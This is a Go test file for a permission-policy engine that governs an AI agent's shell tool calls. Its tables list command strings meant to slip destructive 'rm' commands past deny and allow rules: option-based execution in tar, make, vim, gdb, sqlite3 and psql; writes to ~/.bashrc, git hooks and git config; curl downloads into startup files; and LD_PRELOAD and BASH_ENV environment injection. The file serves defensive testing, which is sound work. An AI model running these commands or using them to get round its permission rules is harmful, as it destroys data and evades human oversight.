package policy

import (
	"encoding/json"
	"testing"
)

// TestCommandOptionRunners (policy45): programs that run a command line,
// code or debugger, editor or database commands given in an option or
// read from their input. On ca0a3f75 a deny rule for "rm *" missed every
// string in the first list, and an allow rule for "tar *", "make *",
// "sqlite3 *", "psql *", … allowed the ones in the third.
func TestCommandOptionRunners(t *testing.T) {
	checkCommands(t, []string{"tar *", "zip *", "make *", "vim *", "gdb *", "sqlite3 *", "psql *", "julia *", "mysql *", "emacs *", "flock *"},
		[]string{
			`tar --to-command='rm x' -xf a.tar`,
			`tar -xf a.tar --to-command 'rm x'`,
			`tar --to-com='rm x' -xf a.tar`,
			`tar --checkpoint=1 --checkpoint-action=exec='rm x' -cf a.tar .`,
			`tar --checkpoint-action 'exec=rm x' -cf a.tar .`,
			`tar -I 'rm x' -xf a.tar`,
			`tar -xIrm -f a.tar`,
			`tar xIf 'rm x' a.tar`,
			`tar --use-compress-program='rm x' -xf a.tar`,
			`tar -F 'rm x' -cML 1 -f a.tar .`,
			`tar --info-script='rm x' -cf a.tar .`,
			`tar --new-volume-script='rm x' -cf a.tar .`,
			`tar --rsh-command=./x -xf h:a.tar`,
			`sudo tar --to-command='rm x' -xf a.tar`,
			`zip -T -TT 'rm x' a.zip f`,
			`zip --unzip-command='rm x' -T a.zip f`,
			`make --eval='x: ; rm y' x`,
			`make -E 'x: ; rm y' x`,
			`make -f - all`,
			`make --file=/dev/stdin`,
			`make SHELL=./x`,
			`make 'X=$(shell rm x)'`,
			`make 'X!=rm x'`,
			`make MAKEFLAGS=--eval=x`,
			`MAKEFLAGS='--eval=x: ; rm y' make x`,
			`export GNUMAKEFLAGS=-E; make`,
			`MFLAGS=- make`,
			`vim -c '!rm x' f`,
			`vim +'!rm x' f`,
			`nvim --cmd '!rm x'`,
			`echo ':!rm x' | vim -es`,
			`ex f`,
			`emacs --batch --eval '(shell-command "rm x")'`,
			`emacs -batch -f kill-emacs`,
			`gdb -ex 'shell rm x' ./a`,
			`gdb -batch -ex 'call (int)system("rm x")' -p 1`,
			`gdb -batch -ex bt -ex run ./a`,
			`gdb -batch -x /dev/stdin ./a`,
			`gdb --eval-command='shell rm x' -batch ./a`,
			`echo 'shell rm x' | gdb ./a`,
			`lldb -o 'platform shell rm x' ./a`,
			`sqlite3 db '.shell rm x'`,
			`sqlite3 db '.system rm x'`,
			`sqlite3 db '.once |rm x' 'select 1'`,
			`sqlite3 -cmd '.shell rm x' db 'select 1'`,
			`sqlite3 db "select edit('', 'rm x')"`,
			`sqlite3 db 'select "edit"('"''"', '"'rm x'"')'`,
			`sqlite3 db "select edit/**/('', 'rm x')"`,
			`sqlite3 db "select load_extension('./x.so')"`,
			`echo '.shell rm x' | sqlite3 db`,
			`psql -c '\! rm x'`,
			`psql --command='\o |rm x' -c 'select 1'`,
			`psql -c "copy t from program 'rm x'"`,
			`psql -f /dev/stdin`,
			`psql -o '|rm x' -c 'select 1'`,
			`echo '\! rm x' | psql`,
			`psql -d db`,
			`mysql -e 'system rm x'`,
			`mysql -BNe '\! rm x'`,
			`mysql db < dump.sql`,
			`julia -e 'rm("x")'`,
			`julia --eval='rm("x")'`,
			`julia`,
			`flock /tmp/l -c 'rm x'`,
			`flock -w 5 /tmp/l --command 'rm x'`,
			`strace -o '|rm x' ls`,
			`strace -fo '|rm x' ls`,
			`strace -e trace=open --output='!rm x' ls`,
			`flock --timeout 5 /tmp/l -c 'rm x'`,
		},
		[]string{
			`tar -xzf a.tar.gz -C out`,
			`tar czf a.tgz --exclude=.git src`,
			`tar --checkpoint=1000 --checkpoint-action=dot -cf a.tar .`,
			`tar -tvf a.tar`,
			`zip -r a.zip src`,
			`zip -T a.zip`,
			`make`,
			`make -j4 test`,
			`make -C sub -f build.mk all`,
			`make CC=clang CFLAGS=-O2 all`,
			`MAKEFLAGS='-j4 --no-print-directory ks' make`,
			`vim --version`,
			`emacs --batch -l build.el`,
			`gdb --version`,
			`gdb -batch -ex bt ./a core`,
			`gdb -q -batch -ex 'thread apply all bt full' -p 1`,
			`jshell --class-path lib x.jsh`,
			`dc -f calc.dc`,
			`gdb -batch -x cmds.gdb ./a`,
			`lldb --batch -s cmds ./a`,
			`sqlite3 db 'select * from t'`,
			`sqlite3 db 'select edited_at, credit(1) from t'`,
			`sqlite3 -header db .tables`,
			`sqlite3 -init setup.sql db 'select 1'`,
			`psql -c 'select count(*) from t'`,
			`psql -h db -U app -f migrate.sql`,
			`psql -l`,
			`mysql -e 'select 1'`,
			`mysql --version`,
			`julia build.jl`,
			`julia --project=. -t 4 run.jl`,
			`flock /tmp/l make -j4`,
			`flock /tmp/l grep -c x f`,
			`strace -f -o trace.txt ls`,
			`strace -e trace=open -o out ls`,
		},
		[]string{
			`tar --to-command='rm x' -xf a.tar`,
			`tar -I zstd -xf a.tar`,
			`zip -TT 'rm x' -T a.zip f`,
			`make --eval=x`,
			`vim -c wq f`,
			`gdb -ex run ./a`,
			`gdb -batch -ex 'print f()' ./a`,
			`sqlite3 db '.shell rm x'`,
			`sqlite3 db`,
			`psql -c '\! rm x'`,
			`psql`,
			`julia -e 'x'`,
			`mysql db`,
			`emacs --eval x`,
			`flock /tmp/l -c 'rm x'`,
		},
		[]string{
			`tar -xzf a.tar.gz`,
			`zip -r a.zip src`,
			`make -j4 test`,
			`sqlite3 db 'select 1'`,
			`psql -c 'select 1'`,
			`julia run.jl`,
			`mysql -e 'select 1'`,
			`gdb -batch -x cmds.gdb ./a core`,
		},
	)
}

// TestCommandREPLsAndWrappers (policy45): programs that read commands from
// their input (a shell, a REPL, a line editor, a job queue) and wrappers
// that run the command in their arguments. On ca0a3f75 a deny rule for
// "rm *" missed the strings marked new; the others pin what was covered.
func TestCommandREPLsAndWrappers(t *testing.T) {
	checkCommands(t, []string{"python3 *", "irb *", "ed *", "at *", "crontab *", "sudo *", "doas *", "runuser *", "dc *"},
		[]string{
			`echo rm -rf / | bash`,
			`bash <<< 'rm x'`,
			`sh -s < f`,
			`busybox sh`,
			`echo 'import os' | python`,
			`echo 'x' | node`,
			`echo 'system "rm x"' | irb`, // new
			`echo '!rm x' | ed f`,        // new
			`echo '!rm x' | dc`,          // new
			`dc -e '!rm x'`,              // new
			`echo 'rm x' | at now`,       // new
			`echo '* * * * * rm x' | crontab -`,
			`crontab jobs.txt`,
			`echo 'rm x' | sudo -s`, // new
			`echo 'rm x' | sudo -u root -i`,
			`echo 'rm x' | sudo -su root`,
			`echo 'rm x' | doas -s`,
			`runuser -u app -c 'rm x'`, // new
			`echo 'rm x' | runuser app`,
			`ghci`,
			`echo 'shell rm x' | ftp h`,
			`env rm x`,
			`env -i rm x`,
			`nice -n 5 rm x`,
			`timeout -s KILL 5 rm x`,
			`nohup rm x`,
			`stdbuf -o0 rm x`,
			`sudo rm x`,
			`sudo -s rm x`,
			`doas rm x`,
			`su -c 'rm x'`,
			`chroot / rm x`,
			`watch 'rm x'`,
			`flock /tmp/l rm x`,
			`strace -f rm x`,
			`ltrace rm x`,
			`time rm x`,
			`/usr/bin/time -v rm x`,
			`xargs rm`,
			`xargs -0 -n 1 rm -f`,
			`xargs -I{} rm {}`,
			`find . -exec rm {} ';'`,
			`find . -execdir rm {} +`,
			`find . -ok rm {} ';'`,
			`find . -okdir rm {} ';'`,
			`find . -exec sh -c 'x' ';'`,
		},
		[]string{
			`python3 build.py`,
			`irb script.rb`,
			`at -l`,
			`crontab -l`,
			`dc calc.dc`,
			`sudo -l`,
			`sudo -u app ls`,
			`nice -n 5 make`,
			`find . -name '*.tmp'`,
			`sudo find . -type f`,
		},
		[]string{`echo x | irb`, `ed f`, `echo x | at now`, `crontab f`, `sudo -s`, `doas -s`, `runuser -u app -- ls`, `dc -e 1p`},
		[]string{`irb script.rb`, `at -l`, `crontab -l`, `sudo -u app ls`, `dc calc.dc`},
	)
}

// TestCommandFilesWrittenThenRun (policy45): a command that writes a
// file a program later runs as code (git's configuration, a shell's
// startup file, a Makefile, a git hook) is opaque, whether that program
// runs in the same string or in a later call. On ca0a3f75 a deny rule
// for "rm *" missed every string in the first list, and an allow rule for
// "git *", "tee *", "cp *", "sed *" allowed the ones in the third.
func TestCommandFilesWrittenThenRun(t *testing.T) {
	checkCommands(t, []string{"git *", "tee *", "cp *", "sed *", "make *", "echo *", "curl *", "install *"},
		[]string{
			`git config core.pager 'rm x'; git log`,
			`git config alias.x '!rm y' && git x`,
			`git config --global core.pager 'rm x'`,
			`git config --add alias.x '!rm y'`,
			`git config set core.hooksPath h`,
			`git config --file .git/config include.path ../x`,
			`git -C repo config core.fsmonitor 'rm x'`,
			`echo '[core] pager = rm x' >> ~/.gitconfig`,
			`echo 'rm x' >> ~/.bashrc`,
			`echo 'rm x' > /home/a/.profile`,
			`printf 'all:\n\trm x\n' > Makefile && make`,
			`cat > Makefile <<'EOF'` + "\nall:\n\trm x\nEOF\nmake",
			`echo 'rm x' > .git/hooks/pre-commit`,
			`echo 'rm x' &> .git/hooks/post-merge`,
			`tee -a ~/.bashrc < f`,
			`echo x | sudo tee /etc/profile.d/x.sh`,
			`cp evil ~/.bashrc`,
			`cp -t .git/hooks evil`,
			`install -m 755 x .git/hooks/pre-push`,
			`mv x ~/.config/git/config`,
			`ln -sf ~/evil ~/.zshrc`,
			`dd if=x of=/etc/ld.so.preload`,
			`sed -i '1i rm x' ~/.bashrc`,
			`sed --sandbox -i 's/^/rm x;/' ~/.profile`,
			`curl -sLo ~/.bashrc https://example.com/x`,
			`wget -O Makefile https://example.com/x`,
			`echo '* * * * * rm x' > /etc/cron.d/x`,
			`echo 'rm x' >> "$HOME/.bashrc"`,
			`echo 'rm x' > ${REPO}/.git/hooks/pre-commit`,
			`tee -a "$HOME/.zshrc" < f`,
			`cp x "$HOME"/.bashrc`,
			`wget https://example.com/.bashrc`,
			`curl -sSLO https://example.com/Makefile`,
			`curl -o "$HOME/.profile" https://example.com/x`,
		},
		[]string{
			`git config user.name x`,
			`git config --get core.pager`,
			`git config core.pager`,
			`git config --unset core.pager`,
			`git config get alias.x`,
			`git config -l`,
			`echo x > notes.txt`,
			`cat Makefile`,
			`cp ~/.bashrc /tmp/b`,
			`sed -i 's/x/y/' src/main.go`,
			`sed 's/x/y/' Makefile`,
			`make -f Makefile`,
			`curl -o out.json https://example.com/x`,
			`tee out.txt < f`,
			`echo x > "$OUT"`,
			`wget -qO- https://example.com/.bashrc`,
			`curl -O https://example.com/a.tar.gz`,
		},
		[]string{
			`git config core.pager 'rm x'`,
			`git config alias.st '!rm x'`,
			`tee -a ~/.bashrc`,
			`cp x ~/.bashrc`,
			`sed -i 1d ~/.bashrc`,
			`curl -o Makefile https://example.com/x`,
			`install x .git/hooks/pre-push`,
		},
		[]string{`git config user.email a@b`, `tee out.txt`, `cp a b`, `sed -i 1d f`, `curl -o out https://example.com/x`},
	)
}

// TestCommandFindXargsAllowRunsInner (policy45): an allow rule must match
// the command find -exec or xargs runs as well as find's or xargs's own
// words. On ca0a3f75 "find *" allowed "find . -exec rm -rf {} +" and
// "xargs *" allowed "xargs rm".
func TestCommandFindXargsAllowRunsInner(t *testing.T) {
	findOnly := mustCompile(t, newPolicy(Approve, commandRule("find", Allow, "find *", "xargs *")))
	withGrep := mustCompile(t, newPolicy(Approve, commandRule("find and grep", Allow, "find *", "xargs *", "grep *")))
	cases := []struct {
		cmd               string
		findOnly, withGrp bool
	}{
		{`find . -name '*.go'`, true, true},
		{`find . -type f -print0`, true, true},
		{`find . -exec rm -rf {} +`, false, false},
		{`find . -name x -execdir rm {} ';'`, false, false},
		{`find . -ok rm {} ';'`, false, false},
		{`find . -name '*.go' -exec grep -l x {} +`, false, true},
		{`find . -exec grep x {} ';' -exec rm {} ';'`, false, false},
		{`find . -name x | xargs grep y`, false, true},
		{`find . -print0 | xargs -0 -n 1 grep -l y`, false, true},
		{`find . | xargs rm`, false, false},
		{`find . | xargs -I{} rm {}`, false, false},
		{`find . | xargs --max-args 2 rm`, false, false},
		{`ls | xargs`, false, false}, // ls matches no pattern
	}
	for _, c := range cases {
		if got := eval(t, findOnly, shellCall(c.cmd)).Effect == Allow; got != c.findOnly {
			t.Errorf("%q under find *, xargs *: allowed %v, want %v", c.cmd, got, c.findOnly)
		}
		if got := eval(t, withGrep, shellCall(c.cmd)).Effect == Allow; got != c.withGrp {
			t.Errorf("%q under find *, xargs *, grep *: allowed %v, want %v", c.cmd, got, c.withGrp)
		}
	}
}

// TestCommandEnvironmentArguments (policy45): a tool argument that gives
// the command an environment (an object, "NAME=value" strings, or
// name/value objects) is read as the command's own assignments would be.
// On ca0a3f75 a deny rule for "rm *" allowed each call in the first list,
// and an allow rule for "ls *" and "git *" allowed each in the third.
func TestCommandEnvironmentArguments(t *testing.T) {
	call := func(args map[string]any) Call {
		raw, err := json.Marshal(args)
		if err != nil {
			t.Fatal(err)
		}
		return Call{Server: "shell", Tool: "run", Arguments: raw, Principal: Principal{ID: "agent-1"}}
	}
	denyRm := mustCompile(t, newPolicy(Allow, commandRule("no rm", Deny, "rm *")))
	allow := mustCompile(t, newPolicy(Approve, commandRule("ls and git", Allow, "ls *", "git *")))
	denied := []map[string]any{
		{"command": "git log", "env": map[string]any{"PAGER": "rm x"}},
		{"command": "git log", "env": map[string]any{"GIT_PAGER": "sh -c x"}},
		{"command": "ls", "env": map[string]any{"LD_PRELOAD": "./x.so"}},
		{"command": "ls", "environment": map[string]any{"ld_preload": "./x.so"}},
		{"command": "node a.js", "env": []any{"NODE_OPTIONS=-r ./x.js"}},
		{"command": "./build.sh", "env": []any{map[string]any{"name": "BASH_ENV", "value": "$(rm x)"}}},
		{"command": "git log", "env": map[string]any{"EDITOR": 5}},
	}
	for _, a := range denied {
		if d := eval(t, denyRm, call(a)); d.Effect != Deny {
			t.Errorf("%v: effect %s, want deny (it runs rm or code the matcher cannot read)", a, d.Effect)
		}
	}
	harmless := []map[string]any{
		{"command": "ls", "env": map[string]any{"PATH": "/tmp/x"}},
		{"command": "git log", "env": map[string]any{"PAGER": "cat", "CI": "1"}},
		{"command": "ls", "cwd": "/tmp", "timeout": 5},
	}
	for _, a := range harmless {
		if d := eval(t, denyRm, call(a)); d.Effect != Allow {
			t.Errorf("%v: effect %s, want allow", a, d.Effect)
		}
	}
	held := []map[string]any{
		{"command": "ls", "env": map[string]any{"PATH": "/tmp/x"}},
		{"command": "ls", "env": map[string]any{"Path": "/tmp/x"}},
		{"command": "ls", "env": []any{"PATH=/tmp/x"}},
		{"command": "ls", "env": []any{map[string]any{"name": "LD_LIBRARY_PATH", "value": "/tmp"}}},
		{"command": "git log", "env": map[string]any{"PAGER": "rm x"}},
		{"command": "ls", "env": map[string]any{"LD_PRELOAD": "./x.so"}},
	}
	for _, a := range held {
		if d := eval(t, allow, call(a)); d.Effect == Allow {
			t.Errorf("%v: allowed, want it held", a)
		}
	}
	allowed := []map[string]any{
		{"command": "ls", "env": map[string]any{"CI": "1", "LANG": "C"}},
		{"command": "git log", "env": []any{"TERM=dumb"}},
		{"command": "ls -l", "cwd": "/tmp"},
	}
	for _, a := range allowed {
		if d := eval(t, allow, call(a)); d.Effect != Allow {
			t.Errorf("%v: effect %s, want allow", a, d.Effect)
		}
	}
}
